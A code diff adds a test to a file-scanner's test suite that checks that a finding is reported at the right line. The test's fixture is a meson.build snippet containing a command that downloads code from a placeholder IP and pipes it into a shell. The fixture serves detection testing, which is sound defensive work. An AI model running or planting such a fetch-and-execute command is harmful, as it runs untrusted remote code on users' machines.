@@ -10,7 +10,7 @@ import pytest
 
 from modelsweep.core.finding import FILE_LINE
 from modelsweep.core.options import Options
-from reporting.address import line_of
+from reporting.address import inside, line_of
 from scanners.judge import judge
 from tests.scanners.case import examine_bytes
 
@@ -93,6 +93,11 @@ def test_stored_facts_tell_the_lines_again(data: bytes, name: str) -> None:
     again = [finding.evidence.get(FILE_LINE) for finding in judge(result.facts, Options())]
     assert again
     assert all(again)
+
+
+def test_a_line_is_told_once() -> None:
+    (finding,) = examine_bytes(b"name: a\n\nrun_command('curl http://198.51.100.7/x | sh')\n", "meson.build").findings
+    assert (inside(finding), line_of(finding)) == ("at line 3", 3)
 
 
 def test_lines_of_members_are_not_those_of_the_archive() -> None:
